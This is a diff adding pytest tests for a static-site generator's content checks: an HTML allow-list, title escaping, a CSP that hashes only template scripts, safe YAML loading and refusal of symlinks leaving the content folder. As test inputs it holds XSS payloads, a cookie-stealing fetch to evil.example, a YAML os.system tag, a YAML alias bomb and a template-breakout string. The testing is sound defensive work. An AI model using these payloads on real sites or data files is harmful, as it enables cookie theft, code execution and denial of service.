@@ -1,0 +1,261 @@
+"""Content that cannot smuggle in script, and content files that cannot hurt the build: raw HTML
+is held to an allow-list, titles are escaped, the CSP allows only our templates' scripts, YAML is
+read safely, and links leaving content/ are refused. Each is a content error with file and line."""
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import time
+
+import pytest
+
+from generator import assets
+from generator.errors import ContentErrors
+from generator.loader import MAX_FILE_BYTES, load_toolkit
+from sitekit import ENV, build_site, make_content
+
+
+def errors_for(content) -> list:
+    with pytest.raises(ContentErrors) as info:
+        load_toolkit(content)
+    return info.value.errors
+
+
+@pytest.fixture
+def content(tmp_path):
+    return make_content(tmp_path / "content")
+
+
+def add_to_body(content, text: str, page: str = "pages/about.md") -> int:
+    """Append text to a page's body; returns the file line where it starts."""
+    path = content / page
+    before = path.read_text(encoding="utf-8")
+    path.write_text(before + "\n" + text + "\n", encoding="utf-8")
+    return before.count("\n") + 2
+
+
+MARKUP_FIX = ("Remove it. Content is Markdown: use **bold**, lists, tables and [links](https://\u2026); plain formatting tags such as "
+              "<strong> or <abbr> are allowed, but not scripts, styles, forms, frames, on\u2026= attributes or javascript: and data: "
+              "addresses. To show code, put it in `backticks`.")
+
+
+# --- Raw HTML in content -------------------------------------------------------------------------
+
+def test_a_script_in_a_page_is_an_error_with_file_and_line(content):
+    n = add_to_body(content, "Some text.\n\n<script>alert('hi')</script>")
+    (error,) = errors_for(content)
+    assert str(error) == (f"content/pages/about.md:{n + 2}: body: the HTML tag <script> is not allowed in content: a page must "
+                          f"not run a script\n    Fix: {MARKUP_FIX}")
+
+
+@pytest.mark.parametrize("html, problem", [
+    ('<img src="x.png" onerror="alert(1)">', "the attribute onerror= on <img> would run a script, which content must not do"),
+    ('<a href="javascript:alert(1)">x</a>', "the address href=\u201cjavascript:alert(1)\u201d on <a> is not a web link"),
+    ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "the address href=\u201c jav\tascript:alert(1)\u201d on <a> is not a web link"),
+    ('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">', "the address src=\u201cdata:image/svg+xml,<svg onload=alert(1)>\u201d on <img> is not a web link"),
+    ("<iframe src=\"https://example.org\"></iframe>", "the HTML tag <iframe> is not allowed in content"),
+    ('<span style="color: red">x</span>', "the attribute style= on <span> is not allowed in content"),
+    ("An unclosed <script>alert(1)", "the HTML tag <script> is not allowed in content: a page must not run a script"),
+    ("<javascript:alert(1)>", "the link <javascript:alert(1)> is not a web or email address"),
+    ("[x][1]\n\n[1]: javascript:alert(1)", "the link address \u201cjavascript:alert(1)\u201d is not a web link"),
+])
+def test_markup_that_could_run_script_is_refused(content, html, problem):
+    n = add_to_body(content, html)
+    (error,) = errors_for(content)
+    assert (error.path, error.field, error.problem) == ("content/pages/about.md", "body", problem)
+    assert n <= error.line <= n + html.count("\n")
+
+
+def test_safe_markup_and_code_are_accepted(content):
+    add_to_body(content, "\n".join([
+        'Read <abbr title="socio-economic background">SEB</abbr> as <strong>background</strong>.',
+        '<a href="https://example.org/report">a report</a>, <a href="#steps">below</a>, <https://example.org>.',
+        "To show a tag, write `<script>` in backticks, or a fenced block:", "", "```html", "<script>alert(1)</script>", "```",
+    ]))
+    load_toolkit(content)
+
+
+def test_a_script_in_a_title_or_a_data_file_is_refused(content):
+    path = content / "interventions" / "step-0.md"
+    path.write_text(path.read_text().replace("title: Step 0", "title: Step 0 <script>alert(1)</script>"))
+    glossary = content / "data" / "glossary.yml"
+    glossary.write_text(glossary.read_text().replace("definition: Socio-economic background.",
+                                                     "definition: <img src=x onerror=alert(1)>"))
+    errors = errors_for(content)
+    assert sorted((e.path, e.line, e.field, e.problem) for e in errors) == [
+        ("content/data/glossary.yml", 2, "terms[0].definition", "the attribute onerror= on <img> would run a script, which content must not do"),
+        ("content/interventions/step-0.md", 2, "title", "the HTML tag <script> is not allowed in content: a page must not run a script"),
+    ]
+
+
+def test_toolkit_check_and_the_build_fail_on_a_script_with_file_and_line(tmp_path):
+    content = make_content(tmp_path / "content")
+    n = add_to_body(content, "<script>alert(1)</script>")
+    check = subprocess.run([sys.executable, "-m", "generator.cli", "--content", str(content), "check"], capture_output=True, text=True, env=ENV)
+    assert check.returncode == 1 and f"content/pages/about.md:{n}: body: the HTML tag <script>" in check.stderr
+    result = build_site(tmp_path)
+    assert result.returncode != 0
+    assert f"content/pages/about.md:{n}: body: the HTML tag <script>" in result.stderr
+    assert not (tmp_path / "site" / "about" / "index.html").exists()
+
+
+def test_titles_are_escaped_wherever_the_theme_prints_them(tmp_path):
+    """A title may hold an allowed tag or markup characters: they show as text, in <title>, the
+    navigation, the heading and the description, and are never escaped twice."""
+    content = make_content(tmp_path / "content")
+    path = content / "pages" / "about.md"
+    path.write_text(path.read_text().replace("title: About", "title: 'Fish & \"chips\" <i>now</i>'")
+                    .replace("summary: The about page.", "summary: 'Say \"hello\"><b>x</b>'"))
+    result = build_site(tmp_path)
+    assert result.returncode == 0, result.stderr
+    page = (tmp_path / "site" / "about" / "index.html").read_text(encoding="utf-8")
+    escaped = "Fish &amp; &quot;chips&quot; &lt;i&gt;now&lt;/i&gt;"
+    assert f"<title>{escaped} - " in page
+    assert f'<meta name="description" content="Say &quot;hello&quot;&gt;&lt;b&gt;x&lt;/b&gt;">' in page
+    assert f">{escaped}</h1>" in page
+    other = (tmp_path / "site" / "privacy" / "index.html").read_text(encoding="utf-8")  # the About section of the nav
+    assert escaped in other
+    for html in (page, other):
+        assert "<i>now" not in html and "&amp;amp;" not in html and "&amp;quot;" not in html
+
+
+# --- The CSP allows only our templates' scripts --------------------------------------------------
+
+def theme_base_script(scope: str = "..") -> str:
+    """The theme's start-up script as its template renders it on a page one level down."""
+    theme = assets._theme_templates() / assets.THEME_SCRIPT_FOLDER / "base.html"
+    body = assets._SCRIPT.search(theme.read_text(encoding="utf-8")).group(2)
+    return assets._JINJA_VALUE.sub(scope, body)
+
+
+def test_the_csp_hashes_the_templates_scripts(tmp_path):
+    start = assets._SCRIPT.search((assets.OVERRIDES / "partials" / "calculator-start.html").read_text()).group(2)
+    page = tmp_path / "calc" / "index.html"
+    page.parent.mkdir()
+    page.write_text(f'<meta content="{assets.CSP_PLACEHOLDER}"><script>{start}</script>\n<script>{theme_base_script()}</script>'
+                    '<script type="application/json">{"x": 1}</script>')
+    csp = assets.apply_csp(tmp_path)
+    assert csp.count("'sha256-") == 2
+    assert all(h in csp for h in assets.inline_script_hashes(page.read_text()))
+
+
+def test_an_unknown_inline_script_fails_the_build_naming_the_page(tmp_path):
+    page = tmp_path / "about" / "index.html"
+    page.parent.mkdir()
+    page.write_text(f"<meta content=\"{assets.CSP_PLACEHOLDER}\">\n<script>{theme_base_script()}</script>\n"
+                    "<p>Hello</p>\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n")
+    with pytest.raises(assets.UnknownScript) as info:
+        assets.apply_csp(tmp_path)
+    assert str(info.value).startswith("about/index.html:4: an inline script that none of the site\u2019s templates put there: "
+                                      "\"fetch('https://evil.example/?' + document.cookie)\"")
+    assert assets.CSP_PLACEHOLDER in page.read_text(), "no page gets a policy that would allow it"
+
+
+def test_a_known_script_with_code_added_is_unknown(tmp_path):
+    """A template value may not be used to smuggle code in: it cannot leave its string."""
+    page = tmp_path / "index.html"
+    smuggled = theme_base_script('..",location),alert(1),("')
+    page.write_text("<script>" + smuggled + "</script>")
+    with pytest.raises(assets.UnknownScript):
+        assets.apply_csp(tmp_path)
+
+
+# --- YAML read safely ----------------------------------------------------------------------------
+
+def test_a_yaml_alias_bomb_is_refused_quickly(content):
+    bomb = ["a: &a [x, x, x, x, x, x, x, x, x]"] + [f"{b}: &{b} [{', '.join(['*' + a] * 9)}]"
+                                                   for a, b in zip("abcdefgh", "bcdefghi")]
+    (content / "data" / "claims.yml").write_text("\n".join(bomb) + "\nclaims: *i\n")
+    start = time.perf_counter()
+    errors = errors_for(content)
+    assert time.perf_counter() - start < 5
+    assert [(e.path, e.line, e.problem) for e in errors] == [
+        ("content/data/claims.yml", 2, "the YAML uses an alias (*name), which the site does not read")]
+    assert errors[0].fix == "Write the value out in full where the alias is; remove the &anchor and *alias marks."
+
+
+def test_a_python_tag_is_a_content_error(content):
+    path = content / "interventions" / "step-0.md"
+    path.write_text(path.read_text().replace("effort: low", "effort: !!python/object/apply:os.system ['echo hacked']"))
+    (error,) = errors_for(content)
+    assert str(error) == ("content/interventions/step-0.md:7: front matter: the YAML has a tag \u201c!!python/object/apply:os.system\u201d, "
+                          "which the site does not read\n    Fix: Remove the \u201c!!\u2026\u201d or \u201c!\u2026\u201d tag: write plain text, "
+                          "numbers, lists and fields.")
+
+
+def test_a_duplicate_key_is_an_error_naming_both_lines(content):
+    path = content / "interventions" / "step-0.md"
+    path.write_text(path.read_text().replace("effort: low", "effort: low\neffort: high"))
+    (error,) = errors_for(content)
+    assert str(error) == ("content/interventions/step-0.md:8: effort: \u201ceffort\u201d is given twice (also at line 7); YAML would "
+                          "silently keep only the last one\n    Fix: Keep one of them and delete the other.")
+
+
+def test_an_impossible_date_is_a_content_error(content):
+    path = content / "data" / "benchmarks.yml"
+    path.write_text(path.read_text().replace("date: '2021'", "date: 2021-13-45"))
+    (error,) = errors_for(content)
+    assert error.path == "content/data/benchmarks.yml" and "month must be in 1..12" in error.problem
+    assert "2024-03-31" in error.fix
+
+
+def test_a_file_over_the_size_limit_is_refused(content):
+    path = content / "data" / "glossary.yml"
+    path.write_text(path.read_text() + "#" * MAX_FILE_BYTES)
+    (error,) = errors_for(content)
+    assert str(error) == ("content/data/glossary.yml: file: the file is larger than 1,000 KB, the most the site reads from one file\n"
+                          "    Fix: Check it is the file you meant to put here; split a long page into several.")
+
+
+# --- Files that are links, loops or not files ----------------------------------------------------
+
+def test_a_link_to_a_file_outside_content_is_refused(content, tmp_path):
+    secret = tmp_path / "secret.md"
+    secret.write_text((content / "pages" / "about.md").read_text().replace("title: About", "title: Secret"))
+    os.symlink(secret, content / "pages" / "leak.md")
+    (error,) = errors_for(content)
+    assert str(error) == (f"content/pages/leak.md: file: the file is a link (symlink) to {secret.resolve()}, outside the content "
+                          "folder, and the site would publish it\n"
+                          "    Fix: Delete the link and copy the text you want into content/pages/leak.md itself.")
+
+
+def test_a_link_inside_content_is_accepted(content):
+    os.symlink(content / "pages" / "about.md", content / "pages" / "about-us.md")
+    errors = errors_for(content)  # accepted as a file; it then duplicates the about page's title
+    assert all(e.field == "title" for e in errors)
+
+
+@pytest.mark.parametrize("make", ["loop", "dangling", "data-loop"])
+def test_a_link_loop_or_a_dangling_link_is_a_content_error(content, make):
+    if make == "loop":
+        path = content / "pages" / "loop.md"
+        os.symlink(path, path)
+    elif make == "dangling":
+        path = content / "pages" / "gone.md"
+        os.symlink(content / "pages" / "nothing-here.md", path)
+    else:
+        path = content / "data" / "claims.yml"
+        path.unlink()
+        os.symlink(path, path)
+    (error,) = errors_for(content)
+    shown = "content/" + path.relative_to(content).as_posix()
+    assert str(error) == (f"{shown}: file: the file is a link (symlink) that leads nowhere: it points to itself, in a loop, "
+                          f"or to a file that does not exist\n    Fix: Delete the link and put the real file at {shown}.")
+
+
+def test_a_folder_named_like_a_page_is_a_content_error(content):
+    (content / "pages" / "drafts.md").mkdir()
+    (error,) = errors_for(content)
+    assert str(error) == ("content/pages/drafts.md: file: this is a folder or a special file, not a text file\n"
+                          "    Fix: Move it out of content/pages/, or rename it so it does not end in .md.")
+
+
+def test_a_content_folder_that_links_outside_is_refused(content, tmp_path):
+    import shutil
+
+    outside = tmp_path / "elsewhere"
+    shutil.move(content / "pages", outside)
+    os.symlink(outside, content / "pages")
+    errors = errors_for(content)
+    assert errors[0].path == "content/pages" and "leaves the content folder" in errors[0].problem
